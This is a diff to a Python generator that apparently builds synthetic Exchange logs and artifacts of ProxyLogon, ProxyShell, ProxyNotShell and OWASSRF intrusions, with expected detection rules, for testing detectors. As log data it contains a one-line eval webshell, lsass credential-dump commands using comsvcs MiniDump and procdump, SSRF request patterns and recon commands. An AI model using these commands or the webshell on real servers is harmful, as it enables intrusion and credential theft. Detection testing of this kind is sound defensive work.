@@ -123,20 +123,57 @@ def benign_request(site: Site, ts: datetime) -> Request:
                 ("/ecp/default.aspx", ""),
             )
         )
-        return Request(ts, "GET" if not stem.endswith("GetList") else "POST", stem, query, f"{dom_user[: dom_user.index(chr(92))]}\\{site.admin}", ip, rng.choice(BROWSER_UAS), 200)
+        return Request(
+            ts,
+            "GET" if not stem.endswith("GetList") else "POST",
+            stem,
+            query,
+            f"{dom_user[: dom_user.index(chr(92))]}\\{site.admin}",
+            ip,
+            rng.choice(BROWSER_UAS),
+            200,
+        )
     if kind == "ps":  # remote PowerShell from the management shell (look-alike of ProxyShell/OWASSRF)
-        query = f"serializationLevel=Full;ExchClientVer={site.build};clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1852"
-        return Request(ts, "POST", "/powershell", query, f"{dom_user[: dom_user.index(chr(92))]}\\{site.admin}", ip, "Microsoft WinRM Client", 200)
+        query = (
+            f"serializationLevel=Full;ExchClientVer={site.build};clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.1852"
+        )
+        return Request(
+            ts, "POST", "/powershell", query, f"{dom_user[: dom_user.index(chr(92))]}\\{site.admin}", ip, "Microsoft WinRM Client", 200
+        )
     if kind == "probe":  # Managed Availability health probes
         stem = rng.choice(("/owa/HealthCheck.htm", "/ecp/HealthCheck.htm", "/EWS/HealthCheck.htm", "/mapi/HealthCheck.htm"))
         return Request(ts, "GET", stem, "", "", "127.0.0.1", PROBE_UA, 200, proxied=False)
     if kind == "oab":
         return Request(ts, "GET", f"/OAB/{_guid(rng)}/oab.xml", "", dom_user, ip, OUTLOOK_UA, 200)
     if kind == "static":  # anonymous GETs of logon page resources
-        stem = rng.choice((f"/owa/auth/{build_dir}/themes/resources/logon.css", "/owa/auth/logon.aspx", f"/owa/auth/{build_dir}/scripts/premium/flogon.js"))
-        return Request(ts, "GET", stem, "url=https%3a%2f%2fmail%2fowa%2f&reason=0" if stem.endswith(".aspx") else "", "", ip, rng.choice(BROWSER_UAS), 200)
+        stem = rng.choice(
+            (
+                f"/owa/auth/{build_dir}/themes/resources/logon.css",
+                "/owa/auth/logon.aspx",
+                f"/owa/auth/{build_dir}/scripts/premium/flogon.js",
+            )
+        )
+        return Request(
+            ts,
+            "GET",
+            stem,
+            "url=https%3a%2f%2fmail%2fowa%2f&reason=0" if stem.endswith(".aspx") else "",
+            "",
+            ip,
+            rng.choice(BROWSER_UAS),
+            200,
+        )
     scanner_ip = attacker_ip(rng)  # internet background noise: zgrab fetching the ECP export tool manifest
-    return Request(ts, "GET", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", "", "", scanner_ip, "Mozilla/5.0 zgrab/0.x", 200)
+    return Request(
+        ts,
+        "GET",
+        "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
+        "",
+        "",
+        scanner_ip,
+        "Mozilla/5.0 zgrab/0.x",
+        200,
+    )
 
 
 def benign_day(site: Site, day: datetime, volume: int) -> list[Request]:
@@ -150,28 +187,70 @@ def benign_background(site: Site) -> None:
     for d in range(days):
         day = site.start + timedelta(days=d)
         ts = site.when(day)
-        site.ecp.append(_ecp_row(site, ts, "Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=" + random_name(rng, 40)))
+        site.ecp.append(
+            _ecp_row(site, ts, "Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=" + random_name(rng, 40))
+        )
         site.rps_http.append(_rps_http(site, site.when(day), site.admin, site.internal_ip(), "Microsoft WinRM Client", 200))
-        site.rps_http.append(_rps_http(site, site.when(day), "HealthMailbox" + random_name(rng, 7), "127.0.0.1", "Exchange BackEnd Probes", 200))
-        site.rps_cmdlet.append(_cmdlet_row(site, site.when(day), "HealthMailbox" + random_name(rng, 7), "Get-Mailbox", '-ResultSize "1"', "ActiveMonitor"))
-        site.oab.append(Row(site.when(day), {"Level": "Info", "OabName": "Default Offline Address Book", "Message": "OABGeneratorAssistant: processing finished"}))
-        site.events.append(_process_event(site, site.when(day), "c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
-                                          '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\x.cmdline"'))
+        site.rps_http.append(
+            _rps_http(site, site.when(day), "HealthMailbox" + random_name(rng, 7), "127.0.0.1", "Exchange BackEnd Probes", 200)
+        )
+        site.rps_cmdlet.append(
+            _cmdlet_row(site, site.when(day), "HealthMailbox" + random_name(rng, 7), "Get-Mailbox", '-ResultSize "1"', "ActiveMonitor")
+        )
+        site.oab.append(
+            Row(
+                site.when(day),
+                {"Level": "Info", "OabName": "Default Offline Address Book", "Message": "OABGeneratorAssistant: processing finished"},
+            )
+        )
+        site.events.append(
+            _process_event(
+                site,
+                site.when(day),
+                "c:\\windows\\system32\\inetsrv\\w3wp.exe",
+                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
+                '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\x.cmdline"',  # noqa: E501 (a log line as written)
+            )
+        )
         if d % 7 == 3:
             site.events.append(_cmdlet_event(site, site.when(day), "Get-Mailbox", '-Identity "' + rng.choice(site.users) + '"'))
     mid = site.start + timedelta(days=days // 2)
     # Look-alikes: an admin setting a normal OAB URL, an OAB temp cleanup, a mailbox export to a share.
-    site.ecp.append(_ecp_row(site, site.when(mid), f"Set-OabVirtualDirectory.ExternalUrl='https://mail.{site.domain}/OAB'.Identity='{_guid(rng)}'",
-                             "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + random_name(rng, 40) + "&schema=OABVirtualDirectory"))
-    site.oab.append(Row(site.when(mid), {"Level": "Warning", "OabName": "Default Offline Address Book",
-                                         "Message": f"Download failed and temporary file '{INSTALL}\\ClientAccess\\OAB\\Temp\\{_guid(rng)}.lzx' needs to be removed"}))
+    site.ecp.append(
+        _ecp_row(
+            site,
+            site.when(mid),
+            f"Set-OabVirtualDirectory.ExternalUrl='https://mail.{site.domain}/OAB'.Identity='{_guid(rng)}'",
+            "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" + random_name(rng, 40) + "&schema=OABVirtualDirectory",
+        )
+    )
+    site.oab.append(
+        Row(
+            site.when(mid),
+            {
+                "Level": "Warning",
+                "OabName": "Default Offline Address Book",
+                "Message": f"Download failed and temporary file '{INSTALL}\\ClientAccess\\OAB\\Temp\\{_guid(rng)}.lzx' needs to be removed",
+            },
+        )
+    )
     victim = rng.choice(site.users)
-    site.events.append(_cmdlet_event(site, site.when(mid), "New-MailboxExportRequest", f'-Mailbox "{victim}" -FilePath "\\\\fs01\\pst$\\{victim}.pst"'))
-    site.events.append(_process_event(site, site.when(mid), "c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe", "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86"))
+    site.events.append(
+        _cmdlet_event(site, site.when(mid), "New-MailboxExportRequest", f'-Mailbox "{victim}" -FilePath "\\\\fs01\\pst$\\{victim}.pst"')
+    )
+    site.events.append(
+        _process_event(
+            site,
+            site.when(mid),
+            "c:\\windows\\system32\\inetsrv\\w3wp.exe",
+            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe",
+            "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86",
+        )
+    )
     old = site.start - timedelta(days=rng.randint(90, 400))
     site.files.append(DroppedFile(("ProgramData", "McAfee", "Common Framework", "Backup", "update.zip"), b"PK\x05\x06" + b"\x00" * 18, old))
     for name in ("logon.aspx", "errorFE.aspx", "logoff.aspx"):
-        stub = f'<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.{name[:-5].capitalize()}" %>\r\n<!DOCTYPE html>\r\n<html><body></body></html>\r\n'
+        stub = f'<%@ Page Language="C#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.{name[:-5].capitalize()}" %>\r\n<!DOCTYPE html>\r\n<html><body></body></html>\r\n'  # noqa: E501 (a log line as written)
         site.files.append(DroppedFile((*OWA_AUTH, name), stub.encode(), old))
 
 
@@ -179,39 +258,84 @@ def benign_background(site: Site) -> None:
 
 
 def _ecp_row(site: Site, ts: datetime, cmd: str, url: str) -> Row:
-    data = f"S:TIME=13;S:SID={_guid(site.rng)};S:CMD={cmd};S:REQID=;S:URL={url};S:REFERRER=;S:EX=;S:ACTID={_guid(site.rng)};S:RS=0;S:BLD={site.build};S:TNAME=<null>;S:TID=;S:USID={_guid(site.rng)};S:EDOID=;S:ACID="
+    data = f"S:TIME=13;S:SID={_guid(site.rng)};S:CMD={cmd};S:REQID=;S:URL={url};S:REFERRER=;S:EX=;S:ACTID={_guid(site.rng)};S:RS=0;S:BLD={site.build};S:TNAME=<null>;S:TID=;S:USID={_guid(site.rng)};S:EDOID=;S:ACID="  # noqa: E501 (a log line as written)
     return Row(ts, {"ServerName": site.host, "EventId": "ECP.Request", "EventData": data})
 
 
 def _rps_http(site: Site, ts: datetime, user: str, ip: str, client_info: str, status: int, stem: str = "/powershell") -> Row:
-    return Row(ts, {"StartTime": ts.strftime("%Y-%m-%dT%H:%M:%S.000Z"), "RequestId": _guid(site.rng), "UrlHost": site.fqdn, "UrlStem": stem,
-                    "AuthenticationType": "Kerberos", "IsAuthenticated": "true", "AuthenticatedUser": user, "ClientIpAddress": ip,
-                    "ServerHostName": site.host, "FrontEndServer": site.fqdn, "HttpStatus": str(status), "SubStatus": "0", "Action": "Receive",
-                    "CommandName": "Receive", "SessionId": _guid(site.rng), "ShellId": _guid(site.rng), "ClientInfo": client_info})
+    return Row(
+        ts,
+        {
+            "StartTime": ts.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
+            "RequestId": _guid(site.rng),
+            "UrlHost": site.fqdn,
+            "UrlStem": stem,
+            "AuthenticationType": "Kerberos",
+            "IsAuthenticated": "true",
+            "AuthenticatedUser": user,
+            "ClientIpAddress": ip,
+            "ServerHostName": site.host,
+            "FrontEndServer": site.fqdn,
+            "HttpStatus": str(status),
+            "SubStatus": "0",
+            "Action": "Receive",
+            "CommandName": "Receive",
+            "SessionId": _guid(site.rng),
+            "ShellId": _guid(site.rng),
+            "ClientInfo": client_info,
+        },
+    )
 
 
 def _cmdlet_row(site: Site, ts: datetime, user: str, cmdlet: str, params: str, app: str = "") -> Row:
-    return Row(ts, {"StartTime": ts.strftime("%Y-%m-%dT%H:%M:%S.000Z"), "RequestId": _guid(site.rng), "ServerHostName": site.host,
-                    "ProcessId": str(site.rng.randint(2000, 30000)), "ProcessName": "w3wp#MSExchangePowerShellAppPool",
-                    "AuthenticatedUser": user, "IsAdmin": "False", "ClientApplication": app, "Cmdlet": cmdlet, "Parameters": params,
-                    "ExecutionResult": "Success"})
+    return Row(
+        ts,
+        {
+            "StartTime": ts.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
+            "RequestId": _guid(site.rng),
+            "ServerHostName": site.host,
+            "ProcessId": str(site.rng.randint(2000, 30000)),
+            "ProcessName": "w3wp#MSExchangePowerShellAppPool",
+            "AuthenticatedUser": user,
+            "IsAdmin": "False",
+            "ClientApplication": app,
+            "Cmdlet": cmdlet,
+            "Parameters": params,
+            "ExecutionResult": "Success",
+        },
+    )
 
 
 def _cmdlet_event(site: Site, ts: datetime, cmdlet: str, params: str) -> Event:
     message = f"Cmdlet succeeded. Cmdlet {cmdlet}, parameters {params}."
-    return Event(ts, "MSExchange Management", {"EventID": 1, "SourceName": "MSExchange CmdletLogs", "Level": "Information", "Message": message})
+    return Event(
+        ts, "MSExchange Management", {"EventID": 1, "SourceName": "MSExchange CmdletLogs", "Level": "Information", "Message": message}
+    )
 
 
 def _process_event(site: Site, ts: datetime, parent: str, image: str, command: str) -> Event:
-    return Event(ts, "Microsoft-Windows-Sysmon/Operational", {
-        "EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "Image": image, "CommandLine": command,
-        "ParentImage": parent, "ParentCommandLine": f'{parent} -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm{_guid(site.rng)} -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0',
-        "User": "NT AUTHORITY\\SYSTEM", "UtcTime": f"{ts:%Y-%m-%d %H:%M:%S}.{ts.microsecond // 1000:03d}",
-    })
+    return Event(
+        ts,
+        "Microsoft-Windows-Sysmon/Operational",
+        {
+            "EventID": 1,
+            "SourceName": "Microsoft-Windows-Sysmon",
+            "Image": image,
+            "CommandLine": command,
+            "ParentImage": parent,
+            "ParentCommandLine": f'{parent} -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\\\.\\pipe\\iisipm{_guid(site.rng)} -h "C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config" -w "" -m 0',  # noqa: E501 (a log line as written)
+            "User": "NT AUTHORITY\\SYSTEM",
+            "UtcTime": f"{ts:%Y-%m-%d %H:%M:%S}.{ts.microsecond // 1000:03d}",
+        },
+    )
 
 
 def _file_event(site: Site, ts: datetime, image: str, target: str) -> Event:
-    return Event(ts, "Microsoft-Windows-Sysmon/Operational", {"EventID": 11, "SourceName": "Microsoft-Windows-Sysmon", "Image": image, "TargetFilename": target})
+    return Event(
+        ts,
+        "Microsoft-Windows-Sysmon/Operational",
+        {"EventID": 11, "SourceName": "Microsoft-Windows-Sysmon", "Image": image, "TargetFilename": target},
+    )
 
 
 def chopper(key: str, container: bytes = b"") -> bytes:
@@ -239,8 +363,10 @@ class Attacker:
 
 def new_attacker(site: Site, start: datetime, uas: tuple[str, ...]) -> Attacker:
     rng = site.rng
-    shell = rng.choice(SHELL_NAMES + (random_name(rng),))
-    return Attacker(attacker_ip(rng), rng.choice(uas), shell, random_name(rng, rng.randint(4, 10)).lower(), site.upn(rng.choice(site.users)), start)
+    shell = rng.choice((*SHELL_NAMES, random_name(rng)))
+    return Attacker(
+        attacker_ip(rng), rng.choice(uas), shell, random_name(rng, rng.randint(4, 10)).lower(), site.upn(rng.choice(site.users)), start
+    )
 
 
 def _post_exploitation(site: Site, at: datetime, pool: str, dump: bool) -> list[str]:
@@ -248,7 +374,7 @@ def _post_exploitation(site: Site, at: datetime, pool: str, dump: bool) -> list[
     rng = site.rng
     w3wp = "c:\\windows\\system32\\inetsrv\\w3wp.exe"
     cmd = "C:\\Windows\\System32\\cmd.exe"
-    recon = rng.choice(("whoami", "ipconfig /all", "net group \"Domain Admins\" /domain", "nltest /domain_trusts"))
+    recon = rng.choice(("whoami", "ipconfig /all", 'net group "Domain Admins" /domain', "nltest /domain_trusts"))
     ev = _process_event(site, at, w3wp, cmd, f'cmd /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&{recon}&echo [S]&cd&echo [E]')
     ev.fields["ParentCommandLine"] = ev.fields["ParentCommandLine"].replace("MSExchangeOWAAppPool", pool)
     site.events.append(ev)
@@ -256,9 +382,17 @@ def _post_exploitation(site: Site, at: datetime, pool: str, dump: bool) -> list[
     if dump:
         t = at + timedelta(minutes=rng.randint(3, 40))
         target = rng.choice(("C:\\Windows\\Temp\\lsass.dmp", "C:\\root\\lsass.dmp", "C:\\ProgramData\\lsass.dmp"))
-        command = rng.choice((f"C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {rng.randint(500, 900)} {target} full",
-                              f"C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe {target}"))
-        site.events.append(_process_event(site, t, cmd, "C:\\Windows\\System32\\rundll32.exe" if "comsvcs" in command else "C:\\ProgramData\\procdump64.exe", command))
+        command = rng.choice(
+            (
+                f"C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {rng.randint(500, 900)} {target} full",
+                f"C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe {target}",
+            )
+        )
+        site.events.append(
+            _process_event(
+                site, t, cmd, "C:\\Windows\\System32\\rundll32.exe" if "comsvcs" in command else "C:\\ProgramData\\procdump64.exe", command
+            )
+        )
         parts = tuple(target[3:].split("\\"))
         site.files.append(DroppedFile(parts, b"MDMP\x93\xa7" + bytes(58), t + timedelta(seconds=20)))
         archive = rng.choice(("it.zip", random_name(rng, 6).lower() + ".zip", "pst.7z"))
@@ -292,37 +426,124 @@ def proxylogon(site: Site, start: datetime) -> dict[str, object]:
     )
     for anchor, status in steps:
         t += timedelta(seconds=rng.uniform(0.3, 9))
-        site.requests.append(Request(t, "POST", js, "", "", atk.ip, atk.ua, status, anchor=f"ServerInfo~{be}{anchor}", routing_hint="X-BEResource-Cookie", target=site.fqdn))
+        site.requests.append(
+            Request(
+                t,
+                "POST",
+                js,
+                "",
+                "",
+                atk.ip,
+                atk.ua,
+                status,
+                anchor=f"ServerInfo~{be}{anchor}",
+                routing_hint="X-BEResource-Cookie",
+                target=site.fqdn,
+            )
+        )
     shell_path = (*OWA_AUTH, f"{atk.shell}.aspx")
-    script = f'http://f/<script language=""JScript"" runat=""server"">function Page_Load(){{eval(Request[""{atk.key}""],""unsafe"");}}</script>'
-    site.ecp.append(_ecp_row(site, t - timedelta(seconds=2), f"Set-OabVirtualDirectory.ExternalUrl=''{script}''.Identity=''{_guid(rng)}''",
-                             f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory"))
-    site.events.append(_cmdlet_event(site, t - timedelta(seconds=2), "Set-OabVirtualDirectory",
-                                     f'-ExternalUrl "http://f/<script language="JScript" runat="server">function Page_Load(){{eval(Request["{atk.key}"],"unsafe");}}</script>" -Identity "OAB (Default Web Site)"'))
-    site.events.append(_cmdlet_event(site, t, "Remove-OabVirtualDirectory", f'-Force "True" -Identity "{site.host}\\OAB (Default Web Site)"'))
-    site.events.append(_cmdlet_event(site, t + timedelta(seconds=1), "New-OabVirtualDirectory",
-                                     f'-WebSiteName "Default Web Site" -Server "{site.host}" -Role "ClientAccess" -Path "{INSTALL}\\FrontEnd\\HttpProxy\\owa\\auth\\{atk.shell}.aspx"'))
-    site.events.append(_file_event(site, t + timedelta(seconds=2), "c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\" + "\\".join(shell_path)))
+    script = (
+        f'http://f/<script language=""JScript"" runat=""server"">function Page_Load(){{eval(Request[""{atk.key}""],""unsafe"");}}</script>'
+    )
+    site.ecp.append(
+        _ecp_row(
+            site,
+            t - timedelta(seconds=2),
+            f"Set-OabVirtualDirectory.ExternalUrl=''{script}''.Identity=''{_guid(rng)}''",
+            f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
+        )
+    )
+    site.events.append(
+        _cmdlet_event(
+            site,
+            t - timedelta(seconds=2),
+            "Set-OabVirtualDirectory",
+            f'-ExternalUrl "http://f/<script language="JScript" runat="server">function Page_Load(){{eval(Request["{atk.key}"],"unsafe");}}</script>" -Identity "OAB (Default Web Site)"',  # noqa: E501 (a log line as written)
+        )
+    )
+    site.events.append(
+        _cmdlet_event(site, t, "Remove-OabVirtualDirectory", f'-Force "True" -Identity "{site.host}\\OAB (Default Web Site)"')
+    )
+    site.events.append(
+        _cmdlet_event(
+            site,
+            t + timedelta(seconds=1),
+            "New-OabVirtualDirectory",
+            f'-WebSiteName "Default Web Site" -Server "{site.host}" -Role "ClientAccess" -Path "{INSTALL}\\FrontEnd\\HttpProxy\\owa\\auth\\{atk.shell}.aspx"',  # noqa: E501 (a log line as written)
+        )
+    )
+    site.events.append(
+        _file_event(site, t + timedelta(seconds=2), "c:\\windows\\system32\\inetsrv\\w3wp.exe", "C:\\" + "\\".join(shell_path))
+    )
     site.files.append(DroppedFile(shell_path, chopper(atk.key), t + timedelta(seconds=2)))
-    rules = ["correlated-attacker-activity", "proxylogon-ssrf-anchor", "proxylogon-ssrf-autodiscover", "proxylogon-reset-vdir", "proxylogon-chain", "proxylogon-ecp-js-post",
-             "proxylogon-ecp-set-vdir-script", "oab-vdir-script-cmdlet", "exchange-writes-script-file", "webshell-request"]
+    rules = [
+        "correlated-attacker-activity",
+        "proxylogon-ssrf-anchor",
+        "proxylogon-ssrf-autodiscover",
+        "proxylogon-reset-vdir",
+        "proxylogon-chain",
+        "proxylogon-ecp-js-post",
+        "proxylogon-ecp-set-vdir-script",
+        "oab-vdir-script-cmdlet",
+        "exchange-writes-script-file",
+        "webshell-request",
+    ]
     if rng.random() < 0.5:  # the nmap-style probe some days before
         probe = start - timedelta(days=rng.randint(1, 3), minutes=rng.randint(0, 600))
-        site.requests.append(Request(probe, "GET", "/owa/auth/x.js", "", "", attacker_ip(rng), rng.choice(BROWSER_UAS), 500,
-                                     anchor="ServerInfo~localhost/ecp/default.flt?", routing_hint="X-AnonResource-Backend-Cookie", target="localhost"))
+        site.requests.append(
+            Request(
+                probe,
+                "GET",
+                "/owa/auth/x.js",
+                "",
+                "",
+                attacker_ip(rng),
+                rng.choice(BROWSER_UAS),
+                500,
+                anchor="ServerInfo~localhost/ecp/default.flt?",
+                routing_hint="X-AnonResource-Backend-Cookie",
+                target="localhost",
+            )
+        )
     if rng.random() < 0.5:  # the OAB generator variant of the file write (CVE-2021-26858)
         path = "C:\\inetpub\\wwwroot\\aspnet_client\\" + random_name(rng) + ".aspx"
-        site.oab.append(Row(t + timedelta(minutes=3), {"Level": "Error", "OabName": "Default Offline Address Book",
-                                                       "Message": f"Download failed and temporary file '{path}' needs to be removed"}))
+        site.oab.append(
+            Row(
+                t + timedelta(minutes=3),
+                {
+                    "Level": "Error",
+                    "OabName": "Default Offline Address Book",
+                    "Message": f"Download failed and temporary file '{path}' needs to be removed",
+                },
+            )
+        )
         rules.append("proxylogon-oab-download-failed")
     # Use of the shell, then hands on keyboard.
     use = t + timedelta(minutes=rng.randint(2, 180))
     ua = rng.choice(("antSword/v2.1", BROWSER_UAS[0]))
     for i in range(rng.randint(2, 6)):
-        site.requests.append(Request(use + timedelta(seconds=i * rng.randint(5, 60)), "POST", f"/owa/auth/{atk.shell}.aspx", "", "", atk.ip, ua, 200, proxied=False))
+        site.requests.append(
+            Request(
+                use + timedelta(seconds=i * rng.randint(5, 60)),
+                "POST",
+                f"/owa/auth/{atk.shell}.aspx",
+                "",
+                "",
+                atk.ip,
+                ua,
+                200,
+                proxied=False,
+            )
+        )
     rules += _post_exploitation(site, use + timedelta(seconds=30), "MSExchangeOWAAppPool", dump=True)
-    return {"verdict": "compromised", "cves": ["CVE-2021-26855", "CVE-2021-27065"], "ips": [atk.ip], "user_agents": [atk.ua],
-            "webshell": "C:\\" + "\\".join(shell_path), "rules": sorted(set(rules))}
+    return {
+        "verdict": "compromised",
+        "cves": ["CVE-2021-26855", "CVE-2021-27065"],
+        "ips": [atk.ip],
+        "user_agents": [atk.ua],
+        "webshell": "C:\\" + "\\".join(shell_path),
+        "rules": sorted(set(rules)),
+    }
 
 
 def proxyshell(site: Site, start: datetime) -> dict[str, object]:
@@ -335,34 +556,72 @@ def proxyshell(site: Site, start: datetime) -> dict[str, object]:
     t = start
     for path in ("/autodiscover/autodiscover.xml?=", "/mapi/nspi/?", "/mapi/emsmdb?"):
         t += timedelta(seconds=rng.uniform(1, 20))
-        site.requests.append(Request(t, "POST", "/autodiscover/autodiscover.json", f"{at}{fake.split('@')[1]}{path}&{email}", "", atk.ip, atk.ua, 200))
+        site.requests.append(
+            Request(t, "POST", "/autodiscover/autodiscover.json", f"{at}{fake.split('@')[1]}{path}&{email}", "", atk.ip, atk.ua, 200)
+        )
     cat = random_name(rng, 120)
     for _ in range(rng.randint(3, 8)):
         t += timedelta(seconds=rng.uniform(1, 30))
-        site.requests.append(Request(t, "POST", "/autodiscover/autodiscover.json", f"{at}{fake.split('@')[1]}/powershell/?X-Rps-CAT={cat}&{email}", "", atk.ip, atk.ua, 200))
+        site.requests.append(
+            Request(
+                t,
+                "POST",
+                "/autodiscover/autodiscover.json",
+                f"{at}{fake.split('@')[1]}/powershell/?X-Rps-CAT={cat}&{email}",
+                "",
+                atk.ip,
+                atk.ua,
+                200,
+            )
+        )
     share = rng.choice(("\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\", "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\"))
     shell_file = f"{random_name(rng, rng.randint(8, 14)).lower()}.aspx"
     user = atk.mailbox.split("@")[0]
     cmds = (
-        ("New-ManagementRoleAssignment", f"-Role \"Mailbox Import Export\" -User \"{atk.mailbox}\""),
-        ("New-MailboxExportRequest", f"-Mailbox \"{atk.mailbox}\" -FilePath \"{share}{shell_file}\" -IncludeFolders \"#Drafts#\" -ContentFilter \"Subject -eq '{shell_file[:-5]}'\""),
-        ("Remove-MailboxExportRequest", f"-Identity \"{user}\\MailboxExport\" -Confirm \"False\""),
+        ("New-ManagementRoleAssignment", f'-Role "Mailbox Import Export" -User "{atk.mailbox}"'),
+        (
+            "New-MailboxExportRequest",
+            f'-Mailbox "{atk.mailbox}" -FilePath "{share}{shell_file}" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'{shell_file[:-5]}\'"',  # noqa: E501 (a log line as written)
+        ),
+        ("Remove-MailboxExportRequest", f'-Identity "{user}\\MailboxExport" -Confirm "False"'),
     )
     for cmdlet, params in cmds:
         t += timedelta(seconds=rng.uniform(5, 60))
-        site.rps_cmdlet.append(_cmdlet_row(site, t, f"NT AUTHORITY\\SYSTEM", cmdlet, params, "Remote-PowerShell-Unknown"))
+        site.rps_cmdlet.append(_cmdlet_row(site, t, "NT AUTHORITY\\SYSTEM", cmdlet, params, "Remote-PowerShell-Unknown"))
         site.events.append(_cmdlet_event(site, t, cmdlet, params))
     shell_path = (*ASPNET_CLIENT, shell_file)
     write = t + timedelta(minutes=rng.randint(1, 5))
-    site.events.append(_file_event(site, write, "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe", "C:\\" + "\\".join(shell_path)))
+    site.events.append(
+        _file_event(
+            site,
+            write,
+            "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeMailboxReplication.exe",
+            "C:\\" + "\\".join(shell_path),
+        )
+    )
     site.files.append(DroppedFile(shell_path, chopper(atk.key, container=b"!BDN" + bytes(60)), write))
     use = write + timedelta(minutes=rng.randint(1, 60))
     for i in range(rng.randint(2, 5)):
-        site.requests.append(Request(use + timedelta(seconds=i * 20), "POST", f"/aspnet_client/{shell_file}", "", "", atk.ip, atk.ua, 200, proxied=False))
-    rules = ["correlated-attacker-activity", "proxyshell-autodiscover-ssrf", "import-export-role-assigned", "mailbox-export-to-web", "exchange-writes-script-file", "webshell-request"]
+        site.requests.append(
+            Request(use + timedelta(seconds=i * 20), "POST", f"/aspnet_client/{shell_file}", "", "", atk.ip, atk.ua, 200, proxied=False)
+        )
+    rules = [
+        "correlated-attacker-activity",
+        "proxyshell-autodiscover-ssrf",
+        "import-export-role-assigned",
+        "mailbox-export-to-web",
+        "exchange-writes-script-file",
+        "webshell-request",
+    ]
     rules += _post_exploitation(site, use + timedelta(seconds=10), "MSExchangeOWAAppPool", dump=rng.random() < 0.5)
-    return {"verdict": "compromised", "cves": ["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"], "ips": [atk.ip], "user_agents": [atk.ua],
-            "webshell": "C:\\" + "\\".join(shell_path), "rules": sorted(set(rules))}
+    return {
+        "verdict": "compromised",
+        "cves": ["CVE-2021-34473", "CVE-2021-34523", "CVE-2021-31207"],
+        "ips": [atk.ip],
+        "user_agents": [atk.ua],
+        "webshell": "C:\\" + "\\".join(shell_path),
+        "rules": sorted(set(rules)),
+    }
 
 
 def proxynotshell(site: Site, start: datetime) -> dict[str, object]:
@@ -382,8 +641,14 @@ def proxynotshell(site: Site, start: datetime) -> dict[str, object]:
     site.files.append(DroppedFile(shell_path, chopper(atk.key), write))
     rules = ["proxynotshell-autodiscover-powershell", "exchange-writes-script-file"]
     rules += _post_exploitation(site, write + timedelta(minutes=2), "MSExchangePowerShellAppPool", dump=rng.random() < 0.5)
-    return {"verdict": "compromised", "cves": ["CVE-2022-41040", "CVE-2022-41082"], "ips": [atk.ip], "user_agents": [atk.ua],
-            "webshell": "C:\\" + "\\".join(shell_path), "rules": sorted(set(rules))}
+    return {
+        "verdict": "compromised",
+        "cves": ["CVE-2022-41040", "CVE-2022-41082"],
+        "ips": [atk.ip],
+        "user_agents": [atk.ua],
+        "webshell": "C:\\" + "\\".join(shell_path),
+        "rules": sorted(set(rules)),
+    }
 
 
 def owassrf(site: Site, start: datetime) -> dict[str, object]:
@@ -399,7 +664,13 @@ def owassrf(site: Site, start: datetime) -> dict[str, object]:
         site.rps_http.append(_rps_http(site, t + timedelta(milliseconds=300), user, atk.ip, atk.ua, 200))
     rules = ["owassrf-owa-powershell", "owassrf-rps-http-clientinfo"]
     rules += _post_exploitation(site, t + timedelta(minutes=1), "MSExchangePowerShellAppPool", dump=rng.random() < 0.5)
